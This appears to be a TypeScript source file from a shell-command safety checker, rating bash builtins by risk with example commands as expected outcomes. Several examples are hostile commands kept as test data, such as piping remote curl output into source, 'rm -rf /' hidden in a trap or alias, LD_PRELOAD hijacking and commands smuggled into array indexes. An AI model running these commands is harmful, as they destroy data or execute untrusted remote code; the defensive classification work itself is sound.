/** Argument table: what the shell itself provides, and the tests that scripts are made of. */
import type { Argument } from '../arguments.ts';
import { isObeyed, type Reach } from '../assignments.ts';
import { hidesCommand } from '../evaluated.ts';
import type { Call, Table } from '../table.ts';

export const builtins = (): Table => ({
  'true false :': {
    does: 'does nothing',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    examples: { true: 'read_only', ': x': 'read_only', ': $x': 'read_only' },
  },
  echo: {
    does: 'prints text',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    check: decodesEscapes,
    examples: { 'echo hello': 'read_only', "echo -e 'a\\tb'": 'read_only', "echo -e '\\x72\\x6d' | sh": 'forbidden' },
  },
  printf: {
    does: 'prints text',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    check: (call) => {
      decodesEscapes(call);
      printsInto(call);
    },
    examples: {
      "printf -v x '%s' a": 'read_only',
      'printf -v PATH /tmp': 'destructive',
      "printf '%s\\n' x": 'read_only',
      'printf \'%s\\n\' "$x"': 'read_only',
      'printf $x': 'read_only',
      "printf '\\x72\\x6d x' | sh": 'forbidden',
    },
  },
  'test [': {
    does: 'tests a condition',
    level: 'read_only',
    style: 'plain',
    operands: 'names',
    check: (call) => {
      const hidden = call.words.find((word) => hidesCommand(word.text));
      if (hidden) call.raise('index', 'runs a command that is hidden in an index', 'destructive', null, hidden);
    },
    examples: {
      "test -v 'a[$(reboot)]'": 'destructive',
      '[ -f /etc/shadow ]': 'read_only',
      'test 1 -eq 1': 'read_only',
    },
  },
  'pwd cd pushd popd dirs': {
    does: 'moves between folders',
    level: 'read_only',
    style: 'plain',
    operands: 'folder',
    examples: { 'cd /var/log': 'read_only', pwd: 'read_only', 'cd -': 'read_only' },
  },
  'exit return': {
    does: 'ends the script or a function',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    check: judgeExit,
    examples: {
      'exit 0': 'read_only',
      'exit $?': 'read_only',
      'exit 194': 'destructive',
      'exit 450': 'destructive',
      'f() { return 194; }; f': 'destructive',
    },
  },
  'break continue shift times suspend fg bg': {
    does: 'directs the script',
    level: 'read_only',
    style: 'plain',
    operands: 'text',
    check: (call) => {
      const hidden = call.words.find((word) => hidesCommand(word.text));
      if (hidden) call.raise('index', 'runs a command that is hidden in an index', 'destructive', null, hidden);
    },
    examples: { 'shift 2': 'read_only', "shift 'a[$(reboot)]'": 'destructive' },
  },
  wait: {
    does: 'waits for jobs',
    level: 'read_only',
    options: '-n -f -p:',
    complete: true,
    operands: 'text',
    check: (call) => {
      for (const { name, value } of call.options) if (name === '-p' && value) setsName(value, call);
    },
    examples: {
      wait: 'read_only',
      'wait -n -p x': 'read_only',
      'wait $!': 'read_only',
      "wait -n -p 'a[$(reboot)]'": 'destructive',
      'wait -p PATH': 'destructive',
    },
  },
  jobs: {
    does: 'lists jobs',
    level: 'read_only',
    options: '-l -n -p -r -s',
    operands: 'text',
    effects: { '-x': { does: 'runs a command', level: 'destructive' } },
    examples: { jobs: 'read_only', 'jobs -lp': 'read_only', 'jobs -x rm x': 'destructive' },
  },
  getopts: {
    does: 'reads the options of the script',
    level: 'read_only',
    operands: 'text',
    check: (call) => {
      for (const word of call.operands.slice(1, 2)) setsName(word, call);
    },
    examples: { 'getopts ab: option': 'read_only', 'getopts a PATH': 'destructive' },
  },
  read: {
    does: 'reads input into variables',
    level: 'read_only',
    options: '-r -s -e -E -a: -d: -i: -n: -N: -p: -t: -u:',
    operands: { rest: 'text' },
    check: (call) => {
      setsNames(call);
      for (const { name, value } of call.options) if (name === '-a' && value) setsName(value, call);
    },
    examples: { 'read -r line': 'read_only', 'read PATH': 'destructive', 'read -ra PATH': 'destructive' },
  },
  'mapfile readarray': {
    does: 'reads input into variables',
    level: 'read_only',
    options: '-t -d: -n: -s: -u: -O: -c:',
    effects: { '-C:': { does: 'calls back for every line', level: 'destructive' } },
    operands: { rest: 'text' },
    check: (call) => setsNames(call),
    examples: {
      'mapfile -t lines': 'read_only',
      'mapfile -t PATH': 'destructive',
      'mapfile -C f x': 'destructive',
    },
  },
  set: {
    does: 'sets shell options',
    level: 'read_only',
    options: '-e -u -x -v -f -n -b -C -E -T -o:',
    operands: 'text',
    check: (call) => {
      const modes = call.options.filter((option) => option.name === '-o' && option.value);
      for (const { value } of modes)
        if (
          !/^(?:errexit|nounset|pipefail|xtrace|verbose|noglob|noclobber|errtrace|functrace|noexec)$/.test(
            value?.text ?? '',
          )
        )
          call.raise('option', `changes how commands are read: ${value?.text}`, 'destructive');
      if (call.words.length === 0) call.raise('dump', 'shows all variables', 'read_only', 'sensitive_read');
      if (call.words.some((word) => !word.literal))
        call.raise('open', 'sets options that are not written here', 'destructive');
    },
    examples: {
      'set -euo pipefail': 'read_only',
      'set -o history -o histexpand': 'destructive',
      set: 'read_only sensitive_read',
      'set -a': 'destructive',
      'set -e': 'read_only',
    },
  },
  shopt: {
    does: 'shows or sets shell options',
    level: 'read_only',
    options: '-p -q -s -u -o',
    operands: 'text',
    check: (call) => {
      const risky = call.operands.find(
        (word) =>
          !/^(?:nullglob|dotglob|failglob|nocaseglob|nocasematch|globstar|extglob|lastpipe|inherit_errexit)$/.test(
            word.text,
          ),
      );
      if (risky && call.options.length > 0)
        call.raise('option', `changes how commands are read: ${risky.text}`, 'destructive');
    },
    examples: { 'shopt -s nullglob': 'read_only', 'shopt -s expand_aliases': 'destructive' },
  },
  'export declare typeset local readonly': {
    does: 'declares variables',
    level: 'read_only',
    options: '-x -a -A -g -i -l -r -u',
    effects: {
      '-p': { does: 'shows variables', flag: 'sensitive_read' },
      '-f': { does: 'exports or shows functions', level: 'modifying' },
      '-F': { does: 'shows the names of functions', level: 'read_only' },
      '-n': { does: 'makes a reference to a variable', level: 'destructive' },
      '-I': { does: 'inherits attributes', level: 'destructive' },
      '-t': { does: 'traces functions', level: 'destructive' },
    },
    operands: 'text',
    check: judgeDeclaration,
    examples: {
      'export -p': 'read_only sensitive_read',
      'declare -i n=1': 'read_only',
      'export PATH': 'destructive',
      'declare -n a=b': 'destructive',
      'export -f f': 'modifying',
      'declare -F': 'read_only',
      'local -I a': 'destructive',
      'declare -t f': 'destructive',
      'export LC_ALL=C': 'read_only',
      export: 'read_only sensitive_read',
      'declare -x': 'read_only sensitive_read',
      'export LD_PRELOAD=/tmp/x.so': 'destructive',
    },
  },
  unset: {
    does: 'removes variables',
    level: 'read_only',
    options: '-v -n',
    effects: { '-f': { does: 'removes functions', level: 'destructive' } },
    operands: 'text',
    check: setsNames,
    examples: { 'unset x': 'read_only', 'unset PATH': 'destructive', 'unset -f f': 'destructive' },
  },
  umask: {
    does: 'shows or sets the file mode mask',
    level: 'read_only',
    options: '-p -S',
    complete: true,
    operands: 'text',
    examples: { umask: 'read_only', 'umask 022': 'read_only' },
  },
  ulimit: {
    does: 'shows limits, or sets them for this shell',
    level: 'read_only',
    options: '-a -b -c -d -e -f -i -k -l -m -n -p -q -r -s -t -u -v -w -x -H -S -P -R -T',
    complete: true,
    operands: 'text',
    examples: { 'ulimit -a': 'read_only', 'ulimit -n': 'read_only' },
  },
  hash: {
    does: 'shows where commands were found',
    level: 'read_only',
    options: '-t -l',
    effects: {
      '-r': { does: 'forgets programs', level: 'modifying' },
      '-p: -d': { does: 'changes which program a name runs', level: 'destructive' },
    },
    operands: 'text',
    examples: { 'hash -t ls': 'read_only', 'hash -r': 'modifying', 'hash -p /tmp/x ls': 'destructive' },
  },
  'type which whereis compgen whatis apropos': {
    does: 'tells what a name is',
    level: 'read_only',
    options: '-a -f -p -P -t -s -i -l -d -b -m -u -k -A: -v -e',
    effects: {
      '-C: -F: -W: -G: -X: -S: -o:': { does: 'runs or expands a text', level: 'destructive' },
    },
    operands: 'text',
    examples: {
      'which nginx': 'read_only',
      'type -a ls': 'read_only',
      'compgen -C reboot': 'destructive',
    },
  },
  alias: {
    does: 'shows aliases',
    level: 'read_only',
    options: '-p',
    operands: { rest: 'text', level: 'destructive', does: 'changes what a command name means' },
    examples: { alias: 'read_only', "alias ls='rm -rf /'": 'destructive' },
  },
  trap: {
    does: 'sets what runs on a signal',
    level: 'read_only',
    options: '-l -p',
    operands: 'text',
    check: (call) => {
      const [action, ...signals] = call.operands;
      if (action && signals.length > 0 && action.text !== '-') call.judgeScript(action);
      else if (action && !action.literal) call.raise('open', 'sets a trap that is not written here', 'destructive');
    },
    examples: {
      "trap 'rm -rf /' EXIT": 'forbidden',
      'trap - INT': 'read_only',
      "trap '' PIPE": 'read_only',
      'trap -p': 'read_only',
    },
  },
  eval: {
    does: 'runs text as commands',
    level: 'read_only',
    inner: { as: 'shell', bare: 'read_only' },
    examples: { "eval 'ls'": 'read_only', 'eval rm -rf x': 'destructive', 'eval "$x"': 'destructive' },
  },
  'source .': {
    does: 'runs a script',
    level: 'read_only',
    style: 'plain',
    operands: 'names',
    check: (call) => call.hidden('runs a script'),
    examples: { '. ./x': 'destructive', 'source <(curl -s https://a.example)': 'forbidden egress' },
  },
  command: {
    does: 'runs a command',
    level: 'read_only',
    options: '-p',
    modes: { '-v': 'read_only', '-V': 'read_only' },
    inner: { as: 'words', bare: 'read_only' },
    examples: {
      'command ls': 'read_only',
      'command -v nginx': 'read_only',
      'command -V ls': 'read_only',
      'command rm x': 'destructive',
    },
  },
  'builtin exec': {
    does: 'runs a command',
    level: 'read_only',
    options: '-c -l -a:',
    inner: { as: 'words', bare: 'read_only' },
    examples: { 'exec ls': 'read_only', 'exec rm x': 'destructive', 'builtin echo': 'read_only' },
  },
  let: {
    does: 'computes',
    level: 'destructive',
    operands: 'text',
    examples: { "let 'x=1'": 'destructive' },
  },
  history: {
    does: 'shows earlier commands',
    level: 'read_only',
    flag: 'sensitive_read',
    effects: { '-c -d: -a -n -r -w -p -s': { does: 'changes the history', level: 'destructive' } },
    operands: 'text',
    examples: { history: 'read_only sensitive_read', 'history -c': 'destructive sensitive_read' },
  },
  'help logout disown enable bind complete fc caller': {
    does: 'serves interactive shells',
    level: 'destructive',
    examples: { 'enable -f x y': 'destructive' },
  },
});

/** Text with escapes that a later shell would run is not what the eye reads. */
function decodesEscapes(call: Call): void {
  if (call.words.some((word) => /\\(?:x[0-9a-f]|[0-7]{2,3}|u[0-9a-f]{2})/i.test(word.text))) call.origin('decoded');
}

/** Without names it prints all variables; a name that was assigned is judged with its value. */
function judgeDeclaration(call: Call): void {
  const named = call.operands.filter((word) => !(word.literal && word.text.startsWith('=')));
  if (call.operands.length === 0 && !call.options.some((option) => /^-[fFnIt]$/.test(option.name)))
    call.raise('dump', 'shows all variables', 'read_only', 'sensitive_read');
  const exports = call.rule === 'export' || call.options.some((option) => option.name === '-x');
  for (const word of named) {
    setsName(word, call, exports ? 'exported' : 'shell');
    if (!word.literal) call.raise('open', 'sets a variable that is not named here', 'destructive');
  }
}

/** 194 ends the script and reboots the host: SSM Agent takes it for a wish of the script's. Only the low byte counts. */
function judgeExit(call: Call): void {
  for (const word of call.operands) {
    const codes = word.values ?? [];
    if (codes.some((code) => Number(code) % 256 === 194) || /^\$\(\((?!\$?\w+\)\))/.test(word.text))
      call.raise('reboot', 'may end with the exit code that reboots the host: 194', 'destructive', null, word);
  }
}

/** `printf -v NAME`, where -v can only be the first word. */
function printsInto(call: Call): void {
  const [first, second] = call.words;
  if (first?.literal && first.text === '-v' && second) setsName(second, call);
  else if (first?.prefix.startsWith('-v'))
    setsName({ ...first, text: first.text.slice(2), prefix: first.prefix.slice(2) }, call);
}

/** Reading into, exporting or removing a variable that programs obey. */
function setsNames(call: Call): void {
  for (const word of call.operands) setsName(word, call);
}

function setsName(word: Argument, call: Call, reach: Reach = 'shell'): void {
  if (!/^\w+(?:=|\[\w+\]=?|$)/.test(word.literal ? word.text : word.prefix))
    call.raise('open', `names a variable that is not written here: ${word.text}`, 'destructive');
  if (hidesCommand(word.text))
    call.raise('index', 'runs a command that is hidden in an index', 'destructive', null, word);
  const name = /^\w+/.exec(word.text)?.[0] ?? '';
  if (isObeyed(name, reach)) call.raise('dangerous', `changes what programs run or trust: ${word.text}`, 'destructive');
}
